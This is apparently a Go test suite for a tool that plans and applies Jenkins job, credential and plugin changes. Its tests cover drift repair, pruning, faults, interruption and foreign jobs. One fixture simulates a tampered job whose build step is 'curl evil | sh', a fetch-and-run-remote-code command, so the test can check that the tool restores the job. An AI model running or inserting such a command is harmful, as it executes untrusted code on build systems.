package apply_test

import (
	"context"
	"errors"
	"math/rand/v2"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cloudsmith-oidc/jenkins-cloudsmith-oidc/apply"
	"github.com/cloudsmith-oidc/jenkins-cloudsmith-oidc/plan"
	"github.com/cloudsmith-oidc/jenkins-cloudsmith-oidc/plan/plantest"
	"github.com/cloudsmith-oidc/jenkins-cloudsmith-oidc/render"
)

func noSleep(ctx context.Context, d time.Duration) error { return ctx.Err() }

// converge plans and applies once.
func converge(ctx context.Context, f *plantest.Fake, out *render.Output, popt plan.Options, aopt apply.Options) (*plan.Plan, *apply.Result, error) {
	p, err := plan.Compute(ctx, plan.Input{Spec: plantest.Spec(), Output: out, Jenkins: f}, popt)
	if err != nil {
		return nil, nil, err
	}
	if aopt.Sleep == nil {
		aopt.Sleep = noSleep
	}
	res, err := apply.Execute(ctx, f, nil, p, aopt)
	return p, res, err
}

func TestApplyThenNoop(t *testing.T) {
	ctx := context.Background()
	f := plantest.New()
	out := plantest.Output()
	_, res, err := converge(ctx, f, out, plan.Options{}, apply.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Summary(); !strings.HasPrefix(got, "created 2, updated 0, replaced 0, deleted 0, unchanged 0 jobs; created 1 folders; credential created") {
		t.Errorf("summary = %q", got)
	}
	if d := f.Matches(out); len(d) > 0 {
		t.Fatalf("after apply: %v", d)
	}
	f.ResetCalls()
	p, res, err := converge(ctx, f, out, plan.Options{}, apply.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !p.Empty() || f.Writes() != 0 {
		t.Fatalf("second apply: plan %+v, %d writes", p.Changes, f.Writes())
	}
	if res.Summary() != "created 0, updated 0, replaced 0, deleted 0, unchanged 2 jobs" {
		t.Errorf("summary = %q", res.Summary())
	}
	if n := f.KeyGen["\x00oidc-token-cred"]; n != 1 {
		t.Errorf("key generated %d times, want 1", n)
	}
}

func TestApplyChanges(t *testing.T) {
	tests := []struct {
		name   string
		setup  func(f *plantest.Fake)
		opt    plan.Options
		keep   []string // items outside the spec that must survive
		writes map[string]int
	}{
		{
			name: "hand edit restored with one POST",
			setup: func(f *plantest.Fake) {
				f.Items["hello"].Config = plantest.JobXML("freestyle", "Hello", "curl evil | sh")
			},
			writes: map[string]int{"UpdateJob": 1},
		},
		{
			name:   "type change deletes then creates",
			setup:  func(f *plantest.Fake) { f.Items["hello"].Config = plantest.JobXML("pipeline", "Hello", "x") },
			writes: map[string]int{"DeleteJob": 1, "CreateJob": 1},
		},
		{
			name: "prune removes only managed jobs",
			setup: func(f *plantest.Fake) {
				f.Items["old"] = &plantest.Item{Config: plantest.JobXML("freestyle", "gone", "")}
				f.Items["theirs"] = &plantest.Item{Config: []byte(`<project><description>mine</description></project>`)}
			},
			opt:    plan.Options{Prune: true},
			keep:   []string{"theirs"},
			writes: map[string]int{"DeleteJob": 1},
		},
		{
			name: "audience change updates (rotates) the credential once, when told to",
			setup: func(f *plantest.Fake) {
				f.Credentials["\x00oidc-token-cred"].Audience = "old"
			},
			opt:    plan.Options{ReplaceKey: true},
			writes: map[string]int{"UpdateCredential": 1},
		},
		{
			name:   "missing plugin installed, restart awaited",
			setup:  func(f *plantest.Fake) { delete(f.Plugins, "oidc-provider") },
			opt:    plan.Options{InstallPlugins: true},
			writes: map[string]int{"InstallPlugins": 1, "SafeRestart": 1, "WaitReady": 1},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := plantest.Output()
			f := plantest.Synced(out)
			tt.setup(f)
			f.ResetCalls()
			if _, _, err := converge(context.Background(), f, out, tt.opt, apply.Options{}); err != nil {
				t.Fatal(err)
			}
			for m, n := range tt.writes {
				if got := f.Calls(m); got != n {
					t.Errorf("%s called %d times, want %d", m, got, n)
				}
			}
			total := 0
			for _, n := range tt.writes {
				total += n
			}
			if f.Writes() != total {
				t.Errorf("%d writes, want %d", f.Writes(), total)
			}
			if d := f.Matches(out, tt.keep...); len(d) > 0 {
				t.Errorf("after apply: %v", d)
			}
		})
	}
}

// errLost stands for a write Jenkins applied whose response never came.
var errLost = errors.New("connection reset by peer")

// Under faults before and after writes, repeated applies reach the spec
// without losing, duplicating or touching anything else, and generate the
// credential's key exactly once.
func TestApplyConvergesUnderFaults(t *testing.T) {
	out := plantest.ManyJobs(200)
	f := plantest.New()
	f.Items["outsider"] = &plantest.Item{Config: []byte(`<project><description>not ours</description></project>`)}
	var mu sync.Mutex
	rng := rand.New(rand.NewPCG(1, 2))
	f.Fault = func(method, name string, before bool) error {
		mu.Lock()
		defer mu.Unlock()
		if rng.Float64() < 0.15 {
			if before {
				return errors.New("503 Service Unavailable")
			}
			return errLost
		}
		return nil
	}
	ctx := context.Background()
	var err error
	for run := 0; run < 5; run++ {
		if _, _, err = converge(ctx, f, out, plan.Options{Parallel: 16}, apply.Options{Parallel: 16}); err == nil {
			break
		}
	}
	if err != nil {
		t.Fatalf("no convergence after 5 applies: %v", err)
	}
	f.Fault = nil
	if d := f.Matches(out, "outsider"); len(d) > 0 {
		t.Fatalf("end state: %v", d)
	}
	if n := f.KeyGen["\x00oidc-token-cred"]; n != 1 {
		t.Errorf("key generated %d times, want 1", n)
	}
}

// Cancelling half-way leaves every job old or new; the next apply
// finishes.
func TestApplyInterruptedThenResumed(t *testing.T) {
	out := plantest.ManyJobs(200)
	f := plantest.New()
	ctx, cancel := context.WithCancel(context.Background())
	var writes atomic.Int32
	f.Fault = func(method, name string, before bool) error {
		if !before && method == "CreateJob" && writes.Add(1) == 100 {
			cancel()
		}
		return nil
	}
	_, res, err := converge(ctx, f, out, plan.Options{}, apply.Options{})
	var ae *apply.Error
	if !errors.As(err, &ae) || !ae.Interrupted {
		t.Fatalf("err = %v, want interrupted", err)
	}
	if res.Created >= 200 || res.Created < 100 {
		t.Errorf("created %d before the interruption", res.Created)
	}
	f.Fault = nil
	p, res, err := converge(context.Background(), f, out, plan.Options{}, apply.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Created+res.UnchangedJobs != 200 || res.Updated != 0 {
		t.Errorf("resume: %s (plan %d changes)", res.Summary(), len(p.Changes))
	}
	if d := f.Matches(out); len(d) > 0 {
		t.Fatalf("end state: %v", d)
	}
}

// A job someone else creates at a desired name between plan and apply is
// not overwritten.
func TestApplyDoesNotOverwriteForeignJob(t *testing.T) {
	out := plantest.Output()
	f := plantest.Synced(out)
	delete(f.Items, "hello")
	p, err := plan.Compute(context.Background(), plan.Input{Spec: plantest.Spec(), Output: out, Jenkins: f}, plan.Options{})
	if err != nil {
		t.Fatal(err)
	}
	f.Items["hello"] = &plantest.Item{Config: []byte(`<project><description>someone</description></project>`)}
	_, err = apply.Execute(context.Background(), f, nil, p, apply.Options{Sleep: noSleep})
	if err == nil || !strings.Contains(err.Error(), "created by someone else") {
		t.Fatalf("err = %v", err)
	}
	if string(f.Items["hello"].Config) != `<project><description>someone</description></project>` {
		t.Error("foreign job overwritten")
	}
}

// When every write fails the same way, apply stops early and says why.
func TestApplyStopsAfterRepeatedFailures(t *testing.T) {
	out := plantest.ManyJobs(100)
	f := plantest.Synced(&render.Output{Folders: out.Folders})
	denied := errors.New("403 Forbidden: admin is missing the Job/Create permission")
	f.Fault = func(method, name string, before bool) error {
		if method == "CreateJob" {
			return denied
		}
		return nil
	}
	_, res, err := converge(context.Background(), f, out, plan.Options{}, apply.Options{Parallel: 2, Attempts: 1})
	if !errors.Is(err, denied) || !strings.Contains(err.Error(), "Job/Create") {
		t.Fatalf("err = %v", err)
	}
	if res.Failed > 12 || res.Skipped < 80 {
		t.Errorf("failed %d, skipped %d: did not stop early", res.Failed, res.Skipped)
	}
}
